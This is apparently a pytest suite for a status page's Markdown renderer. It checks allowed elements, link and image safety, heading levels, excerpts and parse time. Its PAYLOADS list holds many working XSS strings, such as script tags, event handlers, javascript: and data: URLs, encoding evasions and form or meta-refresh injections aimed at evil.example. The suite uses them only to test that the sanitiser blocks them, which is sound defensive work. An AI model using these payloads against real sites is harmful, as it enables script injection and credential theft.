"""Markdown: supported syntax, its HTML, and what is never produced."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from time import thread_time
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kener_async.web.parts import markdown
from kener_async.web.parts.markdown import MAX_LENGTH, excerpt, rendered, rendered_inline

REL = 'rel="nofollow noopener noreferrer"'
BARE = (
    "p br hr pre blockquote ul li h3 h4 h5 h6 table thead tbody tr th td strong em s code".split()  # noqa: SIM905
)
ATTRIBUTES: dict[str, set[str]] = {
    **{tag: set() for tag in BARE},
    "ol": {"start"},
    "a": {"href", "rel"},
    "img": {"src", "alt", "loading", "referrerpolicy"},
}
VOID = {"br", "hr", "img"}


class Elements(HTMLParser):
    """Reads HTML as a browser would and keeps the start tags; whatever is left open stays in `open`."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


def is_harmless(html: str) -> bool:
    """Whether there is nothing but the allowed elements, attributes and schemes, each closed again."""
    elements = Elements(html)
    return not elements.open and not elements.other and all(_is_allowed(*each) for each in elements.found)


def _is_allowed(tag: str, attributes: dict[str, str | None]) -> bool:
    if tag not in ATTRIBUTES or not attributes.keys() <= ATTRIBUTES[tag]:
        return False
    schemes = {"href": ("http", "https", "mailto"), "src": ("https",)}
    return all(
        re.match(r"/(?![/\\])", value or "") or urlsplit(value or "").scheme in schemes[name]
        for name, value in attributes.items()
        if name in schemes
    )


# What authors may write


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
        ("one\r\n\r\ntwo", "<p>one</p>\n<p>two</p>"),
        (
            "**bold** *em* ~~gone~~ `code`",
            "<p><strong>bold</strong> <em>em</em> <s>gone</s> <code>code</code></p>",
        ),
        ("one\\\ntwo", "<p>one<br>\ntwo</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("```python\n1 < 2\n```", "<pre><code>1 &lt; 2\n</code></pre>"),
        ("***", "<hr>"),
        (
            "|a|b|\n|:-|-:|\n|1|2|",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n"
            "<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>",
        ),
    ],
    ids=[
        "paragraphs",
        "lines of Windows",
        "words",
        "break",
        "list",
        "numbered",
        "quote",
        "code",
        "rule",
        "table",
    ],
)
def test_markdown_becomes_plain_elements_without_attributes(text, html):
    assert rendered(text).strip() == html


@pytest.mark.parametrize(("level", "shown"), [(1, 3), (2, 4), (3, 5), (4, 6), (5, 6), (6, 6)])
def test_an_authors_headings_lie_below_those_of_the_page(level, shown):
    assert rendered("#" * level + " Cause") == f"<h{shown}>Cause</h{shown}>\n"


@pytest.mark.parametrize("title", ["Cause\n===", "Cause\n---"])
def test_underlined_headings_lie_below_those_of_the_page_too(title):
    assert rendered(title).startswith(("<h3>", "<h4>"))


@pytest.mark.parametrize(
    ("text", "address", "shown"),
    [
        ("[log](https://example.org/log)", "https://example.org/log", "log"),
        ("[log](http://example.org 'title')", "http://example.org", "log"),
        ("[log][1]\n\n[1]: https://example.org", "https://example.org", "log"),
        ("[us](mailto:us@example.org)", "mailto:us@example.org", "us"),
        ("<https://example.org>", "https://example.org", "https://example.org"),
        ("<us@example.org>", "mailto:us@example.org", "us@example.org"),
    ],
)
def test_a_link_opens_without_telling_where_from(text, address, shown):
    assert rendered(text) == f'<p><a href="{address}" {REL}>{shown}</a></p>\n'


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://example.org/a_b_c.", "https://example.org/a_b_c"),
        ("(https://example.org/x)", "https://example.org/x"),
        ("https://example.org/x_(y)", "https://example.org/x_(y)"),
        ("**https://example.org/**", "https://example.org/"),
        ("- http://example.org/?a=1#b", "http://example.org/?a=1#b"),
        ("https://example.org, and more", "https://example.org"),
    ],
)
def test_an_address_in_running_text_is_a_link_without_the_punctuation_around_it(text, address):
    (link,) = [attributes for tag, attributes in Elements(rendered(text)).found if tag == "a"]
    assert link["href"] == address


@pytest.mark.parametrize(
    "text",
    [
        "`https://example.org`",
        "xhttps://example.org",
        "https://",
        "https:// example.org",
        "ftp://example.org",
        "\\https://-",
    ],
)
def test_not_everything_with_a_colon_is_an_address(text):
    assert "<a" not in rendered(text)


def test_a_links_text_that_is_an_address_leads_where_the_link_says():
    (link,) = [
        found
        for found in Elements(rendered("[https://a.example](https://b.example)")).found
        if found[0] == "a"
    ]
    assert link[1]["href"] == "https://b.example"


def test_an_image_is_loaded_late_and_without_telling_where_from():
    (image,) = Elements(rendered("![The *graph*](https://example.org/g.png 'title')")).found[1:]
    assert image == (
        "img",
        {
            "src": "https://example.org/g.png",
            "alt": "The graph",
            "loading": "lazy",
            "referrerpolicy": "no-referrer",
        },
    )


def test_an_image_that_is_not_encrypted_leaves_its_description():
    assert rendered("![The graph](http://example.org/g.png)") == "<p>The graph</p>\n"


def test_a_link_that_is_refused_is_shown_as_it_was_written():
    for address in ("javascript:alert(1)", "//example.org", "docs", "../docs", "?a=b"):
        assert rendered(f"[x]({address})") == f"<p>[x]({address})</p>\n"


@pytest.mark.parametrize("base", ["", "/status", "https://example.org/status"])
def test_a_link_or_an_image_that_begins_with_a_slash_is_of_this_site(base: str):
    assert rendered("[our help](/incident/1?a=b#c)", base) == (
        f'<p><a href="{base}/incident/1?a=b#c" {REL}>our help</a></p>\n'
    )
    assert f'src="{base}/assets/plan.svg"' in rendered("![plan](/assets/plan.svg)", base)
    assert rendered_inline("[help](/)", base) == f'<a href="{base}/" {REL}>help</a>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Found.\nMended.", "<p>Found.<br>\nMended.</p>"),
        ("Found.\r\nMended.", "<p>Found.<br>\nMended.</p>"),
        ("- a\n  b", "<ul>\n<li>a<br>\nb</li>\n</ul>"),
        ("> a\n> b", "<blockquote>\n<p>a<br>\nb</p>\n</blockquote>"),
    ],
)
def test_a_single_line_break_stays_one(text: str, html: str):
    assert rendered(text).strip() == html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("Three:\n\n1. a\n2. b\n\nDone.", "<p>Three:</p>\n<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n<p>Done.</p>"),
        ("a\n\n" + "b" * 30, "<p>a</p>\n<p>…</p>"),
        ("b" * 30 + "\n\na", "<p>" + "b" * 30 + "</p>\n<p>…</p>"),
        ("word " * 50, "<p>word word word word…</p>"),
        ("- a\n- " + "b " * 300, "<p>a b b b b b b b b b…</p>"),
        ("", ""),
    ],
)
def test_the_beginning_of_a_text_keeps_its_blocks(text: str, html: str):
    assert markdown.beginning(text, 20).strip() == html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**now** with `code`", "<strong>now</strong> with <code>code</code>"),
        ("one\n\n- two\n# three", "one - two # three"),
        ("> no quote, 1 < 2", "&gt; no quote, 1 &lt; 2"),
        ("https://example.org", f'<a href="https://example.org" {REL}>https://example.org</a>'),
        ("", ""),
    ],
)
def test_a_text_of_one_line_has_words_only(text, html):
    assert rendered_inline(text) == html


def test_a_text_of_one_line_has_a_link_in_the_place_of_an_image():
    html = rendered_inline("![x](https://example.org/x.png)")
    assert html == f'!<a href="https://example.org/x.png" {REL}>x</a>'


# What never comes of it

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://x/y' onload='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<div class=fixed id=main>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://x' target=_blank onclick=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https://x' onclick='alert(1))",
    '[x](https://x"onclick="alert(1))',
    '[x](https://x "title\\" onclick=alert(1)")',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <data:text/html,x> 'title'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://x\" onclick=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](https://x/y.png)',
    '![x](https://x/y.png "\\" onerror=alert(1)")',
    '![x](https://x/"onerror="alert(1))',
    "![<script>](https://x/y.png)",
    "[![x](javascript:alert(1))](https://x)",
    "[![x](https://x/y.png)](javascript:alert(1))",
    "https://x/\"onmouseover=\"alert(1)",
    "https://x/<script>alert(1)</script>",
    "https://x/'onmouseover='alert(1)",
    "javascript://x/%0aalert(1)",
    "`<script>alert(1)</script>`",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "|<script>|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u202e<script>",
    "<a@b.example?x=<script>>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "**{}**", "text {} text", "{0}\n\n{0}"])
def test_no_text_becomes_anything_but_harmless_elements(payload, frame):
    text = frame.format(payload)
    assert is_harmless(rendered(text))
    assert is_harmless(rendered_inline(text))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_too_long_to_be_parsed_is_as_harmless(payload):
    html = rendered(payload + "\n\n" + "x" * MAX_LENGTH)
    assert is_harmless(html)
    assert {tag for tag, _ in Elements(html).found} <= {"p", "br"}


@pytest.mark.parametrize(
    "html",
    [*PAYLOADS, "<a href='/docs'>x</a>", "<img src='/x.png'>", "<img src='data:x'>", "<p lang=x title=y>"],
)
def test_what_the_parser_might_let_through_is_cleaned_all_the_same(html):
    assert is_harmless(markdown._clean_blocks.clean(html))
    assert is_harmless(markdown._clean_words.clean(html))


@pytest.mark.parametrize(
    "html",
    [
        "<script></script>",
        "<p onclick=x></p>",
        '<a href="javascript:x"></a>',
        '<a href="//docs"></a>',
        '<img src="http://x">',
        "<p>",
        "<!--x-->",
        "<!DOCTYPE html>",
    ],
)
def test_the_check_itself_finds_harm(html):
    assert not is_harmless(html)


def pieces() -> st.SearchStrategy[str]:
    """Texts of markup and words in any order, so that rules meet which nobody thought to combine."""
    marks = st.sampled_from(
        [*"[]()!*_~`<>&\\|\"'#-=:;/\n\t ", "](", "![", "<a ", "https://", "javascript:", "&#", "</", "> "]
    )
    return st.lists(st.one_of(marks, st.sampled_from(PAYLOADS), st.text(max_size=8)), max_size=30).map(
        "".join
    )


@given(text=st.one_of(st.text(), pieces()))
def test_any_text_is_harmless(text):
    assert is_harmless(rendered(text))
    assert is_harmless(rendered_inline(text))


# Nothing is lost or slow


def test_a_text_too_long_to_be_parsed_keeps_its_words_paragraphs_and_lines():
    html = rendered("**a** <b>\nc\n\n\n" + "x" * MAX_LENGTH)
    assert html == f"<p>**a** &lt;b&gt;<br>\nc</p>\n<p>{'x' * MAX_LENGTH}</p>\n"


def test_a_long_report_in_plain_words_is_parsed():
    report = (
        "## Cause\n\nA disk was **full**, see [the log](https://example.org/log).\n\n- one\n- two\n\n" * 100
    )
    assert rendered(report).count("<h4>") == 100


@pytest.mark.parametrize(
    "text",
    [
        "*a*![" * 3_000,
        "> *a*\n\n" * 300,
        "*a*" + "|b" * 20 + "\n" + "|-" * 21 + "\n" + "|c\n" * 600,
    ],
    ids=["brackets", "quotes", "rows of many columns"],
)
def test_a_text_too_intricate_to_be_parsed_is_shown_as_it_was_written(text):
    assert "*a*" in rendered(text)
    assert {tag for tag, _ in Elements(rendered(text)).found} <= {"p", "br"}


def intricate() -> Iterator[str]:
    """Texts that are slow to parse for their length, also as long as they are still parsed."""
    units = (
        "[",
        "![",
        "[ # ",
        "*a_",
        "> ",
        "> ```\na\n",
        "[a]: b\n]\n>",
        "`",
        "<a@b.c>",
        "- a\n",
        "&",
        "https://a ",
    )
    for unit, length in product(units, (1_400, 4_000, 8_000, MAX_LENGTH, 65_536)):
        yield (unit * length)[:length]
    for columns, rows in ((400, 700), (20, 200), (8, 500), (2, 1_200)):
        yield "a|" * columns + "a\n" + "-|" * columns + "-\n" + "|x\n" * rows
    yield "".join("`" * length + " " for length in range(1, 180))
    yield "\n" * 65_536
    yield "\n\na" * 20_000


@pytest.mark.parametrize("render", [rendered, rendered_inline])
def test_no_text_is_slow(render):
    """About 100 ms at worst where it was measured; unbounded, some of these take seconds there."""
    for text in intricate():
        assert any(seconds(render, text + "x" * attempt) < 0.25 for attempt in range(3)), text[:80]


def seconds(render, text: str) -> float:
    begun = thread_time()
    render(text)
    return thread_time() - begun


# Excerpts


@pytest.mark.parametrize(
    ("text", "length", "shown"),
    [
        ("A **disk** is [full](https://example.org).", 100, "A disk is full."),
        ("# Cause\n\nOne & two\n\n- a\n- b", 100, "Cause One & two a b"),
        ("1 < 2 and `a > b`", 100, "1 < 2 and a > b"),
        ("<script>alert(1)</script>", 100, "<script>alert(1)</script>"),
        ("one two three", 13, "one two three"),
        ("one two three", 12, "one two…"),
        ("one, two, three", 10, "one, two…"),
        ("abcdefghij", 5, "abcd…"),
        ("", 10, ""),
    ],
)
def test_an_excerpt_is_plain_text_cut_after_a_word(text, length, shown):
    assert excerpt(text, length) == shown


@given(text=st.one_of(st.text(), pieces()), length=st.integers(1, 60))
def test_an_excerpt_is_one_line_within_its_limit(text, length):
    shown = excerpt(text, length)
    assert len(shown) <= length
    assert shown == " ".join(shown.split())
